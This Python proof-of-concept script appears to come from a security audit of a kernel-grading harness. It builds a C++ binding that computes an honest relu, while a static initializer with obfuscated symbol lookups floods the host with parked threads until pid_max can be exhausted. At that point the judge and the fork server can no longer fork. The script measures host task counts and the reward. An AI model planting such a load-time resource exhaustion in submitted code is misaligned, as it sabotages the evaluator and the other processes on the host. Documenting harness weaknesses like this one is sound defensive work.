"""n1: the host's PID space from inside the candidate. RLIMIT_NPROC does not bind root (the candidate
runs as uid 0), there is no pids cgroup limit, and threads are allowed (clone with CLONE_THREAD), so
a static initializer (load window, beside the baseline's warm-up and check) can create threads until
the host's pid_max (32768 here) is spent: then the judge, the baseline client, the fork server and
every other process on the host fail fork/clone with EAGAIN. Demonstrated only at a safe size (N
threads parked in pause(), 16 KiB stacks); the driver samples the host's task count
(/proc/loadavg's 4th field). The kernel is the honest relu. MODE: threads=N | control."""
import sys, threading, time
from common import *
mode = sys.argv[1] if len(sys.argv) > 1 else "threads=1000"
n = int(mode.split("=")[1]) if mode.startswith("threads") else 0
BINDING = r'''
#include "binding_registry.h"
#include <cstdint>
#include <string>
extern "C" void relu_kernel(const float* x, float* y, int64_t n);
RESOLVER
using PthreadCreate = int (*)(void*, const void*, void* (*)(void*), void*);
using AttrInit = int (*)(void*); using AttrStack = int (*)(void*, unsigned long);
using Pause = int (*)();
static Pause g_pause;
static void* park(void*) { for (;;) g_pause(); return nullptr; }
static int g_made = 0, g_err = 0;
static int flood() {
  auto pc = (PthreadCreate)resolve("PC"); auto ai = (AttrInit)resolve("AI"); auto as = (AttrStack)resolve("AS"); g_pause = (Pause)resolve("PA");
  static char attr[128]; ai(attr); as(attr, 16384);
  for (int i = 0; i < NTHREADS; ++i) { char tid[16]; int r = pc(tid, attr, park, nullptr); if (r) { g_err = r; break; } ++g_made; }
  return g_made;
}
static int g_started = NTHREADS > 0 ? flood() : 0;
static long g_calls = 0;
at::Tensor relu_forward(const at::Tensor& x) {
  if (++g_calls == 1 && g_made < NTHREADS) TORCH_CHECK(false, "FLOOD made=", g_made, " err=", g_err);
  auto y = at::empty_like(x);
  relu_kernel(x.data_ptr<float>(), y.data_ptr<float>(), x.numel());
  return y;
}
REGISTER_BINDING(relu, relu_forward)
'''.replace("NTHREADS", str(n)).replace("RESOLVER", RESOLVER)
for k, v in {"PC": "pthread_create", "AI": "pthread_attr_init", "AS": "pthread_attr_setstacksize", "PA": "pause"}.items():
    BINDING = BINDING.replace('"%s"' % k, '"%s"' % enc(v))
tasks = {"base": None, "peak": 0}
def ntasks(): return int(open("/proc/loadavg").read().split()[3].split("/")[1])
stop = False
def sample():
    tasks["base"] = ntasks()
    while not stop: tasks["peak"] = max(tasks["peak"], ntasks()); time.sleep(0.05)
threading.Thread(target=sample, daemon=True).start()
res = run(f"n1_thread_flood_{mode}", RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": BINDING}, note=mode)
stop = True; time.sleep(0.2)
print("HOST TASKS base %d peak %d after %d (pid_max %s)" % (tasks["base"], tasks["peak"], ntasks(), open("/proc/sys/kernel/pid_max").read().strip()))
with open(RESULTS, "a") as f:
    f.write(json.dumps(dict(name=f"n1_thread_flood_{mode}_hosttasks", base=tasks["base"], peak=tasks["peak"], after=ntasks(), reward=res.reward)) + "\n")
